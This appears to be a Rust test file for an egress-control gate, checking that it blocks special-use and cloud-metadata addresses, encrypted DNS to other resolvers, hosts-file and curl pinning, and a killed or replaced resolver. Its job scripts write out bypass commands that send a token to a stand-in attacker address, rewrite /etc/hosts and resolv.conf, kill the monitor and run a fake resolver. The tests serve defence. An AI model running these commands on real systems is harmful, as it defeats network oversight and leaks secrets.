//! ATTACKS.md, D9, D10, D12 and D13: names that lead where they should not, and resolvers that are not ours.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{EventKind, JobStage, Verdict};
use portcullis_tests::evidence::{Actor, Call, NO_RULE, Question};
use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{JobOutcome, World};
use std::net::IpAddr;

/// D9: the name, the type that is asked, and an address that must be named as withheld.
const SPECIAL: &[(&str, &str, &str)] = &[
    ("loopback.special.test", "A", "127.0.0.1"),
    ("loopback.special.test", "AAAA", "::1"),
    ("private.special.test", "A", "10.0.0.1"),
    ("private.special.test", "AAAA", "fd00::1"),
    ("carrier.special.test", "A", "100.64.0.1"),
    ("link-local.special.test", "A", "169.254.1.1"),
    ("link-local.special.test", "AAAA", "fe80::1"),
    ("metadata.special.test", "A", "169.254.169.254"),
    ("metadata.special.test", "AAAA", "fd00:ec2::254"),
    ("multicast.special.test", "A", "224.0.0.1"),
    ("unspecified.special.test", "A", "0.0.0.0"),
    ("unspecified.special.test", "AAAA", "::"),
    // Variants: IPv4 in IPv6, by an alias, behind a translator (RFC 6052).
    ("mapped.special.test", "AAAA", "::ffff:10.0.0.1"),
    ("alias.special.test", "A", "10.0.0.1"),
    ("nat64.special.test", "AAAA", "64:ff9b::a00:1"),
];

#[test]
fn names_do_not_open_addresses_of_special_use() -> Result<()> {
    let mut allowed: Vec<String> =
        SPECIAL.iter().map(|(name, _, _)| format!("{name}:443")).collect();
    allowed.dedup();
    // The benign twins: an address that the policy names, one of a network that it names, one that is ordinary.
    allowed.extend(
        ["internal.special.test:443", "10.0.7.7:443", "mixed.special.test:443"].map(str::to_owned),
    );
    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
    let gate = Gate::up(&policy("block", &allowed))?;
    let world = gate.world();
    world.dns().alias("alias.special.test", "private.special.test.")?;
    world.dns().addresses("nat64.special.test", &["64:ff9b::a00:1"])?;
    world.dns().addresses("internal.special.test", &["10.0.7.7"])?;
    // The web servers are there, so that a call that gets through is answered.
    for address in ["10.0.0.1", "10.0.7.7", "169.254.169.254"] {
        world.add_address(address.parse()?)?;
    }
    let mut ask = String::new();
    for (name, kind, _) in SPECIAL {
        let question = format!("echo {name} {kind} [$(dig +short +tries=1 {kind} {name})]\n");
        ask.push_str(&question);
    }
    let mut job = gate.job();
    job.steps = vec![
        step("ask", &ask),
        step(
            "call",
            "for address in 10.0.0.1 169.254.169.254; do\n\
             curl -ksS --max-time 5 https://$address/ || echo $address is closed\ndone\n\
             curl -ksS --max-time 5 https://metadata.special.test/ || echo the name is closed\n",
        ),
        step(
            "twins",
            "curl -sS https://internal.special.test/\ndig +short A mixed.special.test\n\
             curl -sS -4 https://mixed.special.test/\n",
        ),
    ];
    let result = gate.begin(&job)?.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    for (name, kind, _) in SPECIAL {
        // An alias is no address.
        let answer = if *name == "alias.special.test" { "private.special.test." } else { "" };
        let lines = [format!("{name} {kind} []"), format!("{name} {kind} [{answer}]")];
        ensure!(lines.iter().any(|line| log.contains(line)), "{name} {kind} got an answer:\n{log}");
    }
    for line in ["10.0.0.1 is closed", "169.254.169.254 is closed", "the name is closed"] {
        ensure!(log.contains(line), "no `{line}` in\n{log}");
    }
    let twins = &result.step("twins").context("no step")?.log;
    ensure!(twins.contains("198.51.100.51") && !twins.contains("127.0.0.1"), "{twins}");

    let events = gate.final_events()?;
    for (name, kind, address) in SPECIAL {
        Question::of(name)
            .query_type(kind)
            .verdict(Verdict::Blocked)
            .policy(POLICY)
            .rule(&format!("address {address} is not granted"))
            .by(Actor::new("dig").argument(name).step("ask"))
            .find(&events)?;
    }
    for address in ["10.0.0.1", "169.254.169.254"] {
        Call::to(address.parse()?, "tcp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .name(None)
            .by(Actor::new("curl").step("call"))
            .find(&events)?;
    }
    Call::to("10.0.7.7".parse()?, "tcp", Some(443))
        .verdict(Verdict::Allowed)
        .by(Actor::new("curl").step("twins"))
        .find(&events)?;
    Call::to("198.51.100.51".parse()?, "tcp", Some(443))
        .verdict(Verdict::Allowed)
        .rule("mixed.special.test:443")
        .name(Some("mixed.special.test"))
        .find(&events)?;
    Ok(())
}

/// D10: DNS over TLS, over QUIC, over HTTPS; at the attacker's and at the world's own name server.
const ENCRYPTED: &[(&str, &str, u16)] = &[
    ("tcp", "203.0.113.66", 853),
    ("tcp", "2001:db8::66", 853),
    ("udp-sendto", "203.0.113.66", 853),
    ("udp-sendto", "2001:db8::66", 853),
    ("tcp", "203.0.113.53", 853),
    ("udp-connected", "203.0.113.53", 853),
    ("tcp", "203.0.113.53", 443),
];

#[test]
fn encrypted_dns_to_other_resolvers_is_blocked() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443", "198.51.100.60:853"]))?;
    let mut script = String::new();
    for (technique, address, port) in ENCRYPTED {
        let command = format!("python3 -S $ATTACKS/transport.py {technique} {address} {port} &\n");
        script.push_str(&command);
    }
    // The twin: a resolver that the policy names; nobody is there, which the world's router says.
    script.push_str("python3 -S $ATTACKS/transport.py tcp 198.51.100.60 853 &\nwait\n");
    let doh = "curl -ksS --max-time 5 --doh-insecure --doh-url https://203.0.113.66/dns-query https://ok.test/$TOKEN \
               || echo no answer\ncurl -sS https://ok.test/\n";
    let mut job = gate.job();
    job.steps = vec![step("other-ports", &script), step("https", doh)];
    let running = gate.begin(&job)?;
    for (technique, address, port) in ENCRYPTED {
        let protocol = if *technique == "tcp" { "tcp" } else { "udp" };
        let actor = Actor::new("python3").argument(technique).argument(address).step("other-ports");
        let call = Call::to(address.parse()?, protocol, Some(*port))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .policy(POLICY)
            .by(actor);
        gate.wait_for_call(&call)?;
    }
    let twin = Call::to("198.51.100.60".parse()?, "tcp", Some(853))
        .verdict(Verdict::Allowed)
        .rule("198.51.100.60:853");
    gate.wait_for_call(&twin)?;
    for (technique, address, _) in ENCRYPTED {
        gate.release(&format!("{technique}-{address}"))?;
    }
    gate.release("tcp-198.51.100.60")?;
    let result = running.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.contains("tcp 198.51.100.60: ECONNREFUSED"), "{log}");
    ensure!(result.step("https").is_some_and(|step| step.log.contains("no answer")), "{log}");
    gate.assert_contained()?;
    Call::to("203.0.113.66".parse()?, "tcp", Some(443))
        .verdict(Verdict::Blocked)
        .rule(NO_RULE)
        .by(Actor::new("curl").argument("--doh-url").step("https"))
        .find(&gate.final_events()?)?;
    Ok(())
}

#[test]
fn an_allowed_name_pinned_to_another_address_opens_nothing() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443", "api.ok.test:443"]))?;
    let mut job = gate.job();
    let call = "curl -ksS --max-time 5";
    job.steps = vec![
        // The name is resolved rightly first, so that its own addresses are open.
        step("before", "curl -sS https://ok.test/"),
        root_step("hosts", "printf '203.0.113.66 ok.test\\n2001:db8::66 ok.test\\n' >> /etc/hosts"),
        step("pinned", &format!("{call} https://ok.test/$TOKEN || echo closed")),
        step(
            "by-option",
            &format!(
                "{call} --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN || echo closed\n\
                 {call} --connect-to api.ok.test:443:[2001:db8::66]:443 https://api.ok.test/$TOKEN || echo closed\n"
            ),
        ),
        // A server of the attacker's in resolv.conf is none.
        root_step("resolv-conf", "echo nameserver 203.0.113.66 > /etc/resolv.conf"),
        step("twin", "curl -sS https://api.ok.test/"),
    ];
    let result = gate.begin(&job)?.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.matches("closed\n").count() == 3, "{log}");
    gate.assert_contained()?;
    let events = gate.final_events()?;
    for (address, id) in
        [("203.0.113.66", "pinned"), ("203.0.113.66", "by-option"), ("2001:db8::66", "by-option")]
    {
        Call::to(address.parse()?, "tcp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .name(None)
            .policy(POLICY)
            .by(Actor::new("curl").step(id))
            .find(&events)?;
    }
    let to_api = |address: &str| -> Result<Call> {
        let address: IpAddr = address.parse()?;
        Ok(Call::to(address, "tcp", Some(443))
            .verdict(Verdict::Allowed)
            .rule("api.ok.test:443")
            .name(Some("api.ok.test"))
            .by(Actor::new("curl").step("twin")))
    };
    to_api("2001:db8:1::11")?.find(&events).or_else(|_| to_api("198.51.100.11")?.find(&events))?;
    Ok(())
}

/// D13. The monitor is the test's own, so that it can be restarted while the job runs.
#[test]
fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    let world = gate.world();
    world.write_policy("gate", &policy("block", &["ok.test:443", "api.ok.test:443"]))?;
    world.install_hooks()?;
    let mut monitor = world.monitor(MonitorOptions::default())?;
    let call = "curl -ksS --max-time 2";
    let mut job = gate.job().env("MONITOR", &monitor.pid().to_string());
    job.steps = vec![
        step("before", "dig +short ok.test"),
        root_step(
            "stopped",
            &format!(
                "kill -STOP $MONITOR\n\
                 dig +short +tries=1 +timeout=1 api.ok.test >/dev/null || echo no answer while stopped\n\
                 {call} https://203.0.113.66/$TOKEN || echo closed while stopped\n\
                 kill -CONT $MONITOR\n"
            ),
        ),
        step("between", "dig +short api.ok.test"),
        root_step(
            "killed",
            &format!(
                "port=$(nft list ruleset | sed -n 's/.*redirect to :\\([0-9]*\\).*/\\1/p' | head -n 1)\n\
                 kill -9 $MONITOR\n\
                 while kill -0 $MONITOR 2>/dev/null && ! grep -q 'State:.Z' /proc/$MONITOR/status; do :; done\n\
                 dig +short +tries=1 +timeout=1 ok.test >/dev/null || echo no answer\n\
                 {call} https://203.0.113.66/$TOKEN || echo closed\n\
                 {call} 'https://[2001:db8::66]/'$TOKEN || echo closed for IPv6\n\
                 python3 -S $ATTACKS/fake_resolver.py $port > taken &\n\
                 until grep -q taken taken; do :; done\n\
                 echo the fake says $(dig +short +tries=1 +timeout=1 ok.test)\n\
                 {call} https://ok.test/$TOKEN || echo closed for the fake\n\
                 echo ready; until [ -e $RELEASE/go-on ]; do sleep 0.01; done\n"
            ),
        ),
        step(
            "after",
            "curl -sS https://ok.test/ >/dev/null && echo open again\ndig +short api.ok.test",
        ),
        step("still", &format!("{call} https://203.0.113.66/$TOKEN || echo still closed")),
    ];
    let running = gate.begin(&job)?;
    running.wait_for_line("ready")?;
    gate.assert_contained()?;
    monitor.restart()?;
    gate.release("go-on")?;
    let result = running.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}\n{}", monitor.log());
    for line in [
        "no answer while stopped",
        "closed while stopped",
        "no answer",
        "closed",
        "closed for IPv6",
        "the fake says 203.0.113.66",
        "closed for the fake",
        "open again",
        "still closed",
    ] {
        ensure!(log.lines().any(|found| found == line), "no `{line}` in\n{log}\n{}", monitor.log());
    }
    ensure!(result.step("between").is_some_and(|step| step.log.contains("198.51.100.11")), "{log}");
    gate.assert_contained()?;
    monitor.wait_until_idle()?;
    let events = gate.events()?;
    Call::to("203.0.113.66".parse()?, "tcp", Some(443))
        .verdict(Verdict::Blocked)
        .rule(NO_RULE)
        .by(Actor::new("curl").step("still"))
        .find(&events)?;
    let gap = |reason: &str| reason.contains("was not running");
    ensure!(
        events.iter().any(|event| matches!(&event.kind,
            EventKind::Job(job) if job.stage == JobStage::Adopted && gap(&job.reason))),
        "the restart is not recorded"
    );
    ensure!(
        events.iter().any(|event| matches!(&event.kind,
            EventKind::Posture(posture) if gap(&posture.reason))),
        "the gap is not in the posture"
    );
    Ok(())
}

#[test]
fn without_a_gate_the_same_calls_get_through() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    gate.world().add_address("10.0.0.1".parse()?)?;
    gate.release("tcp-203.0.113.66")?;
    let script = "dig +short A private.special.test\ncurl -ksS --max-time 5 https://private.special.test/\n\
                  python3 -S $ATTACKS/transport.py tcp 203.0.113.66 853\n\
                  curl -ksS --max-time 5 --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN\n";
    let mut job = gate.job();
    job.steps = vec![
        step("calls", script),
        root_step("hosts", "echo 203.0.113.66 ok.test >> /etc/hosts"),
        step("pinned", "curl -ksS --max-time 5 https://ok.test/$TOKEN"),
    ];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(result.log().contains("10.0.0.1"), "{}", result.log());
    gate.assert_leaked()?;
    let ports: Vec<u16> =
        gate.world().attacker().streams().iter().map(|stream| stream.port).collect();
    ensure!(ports == [853, 443, 443], "the attacker was called on {ports:?}");
    Ok(())
}
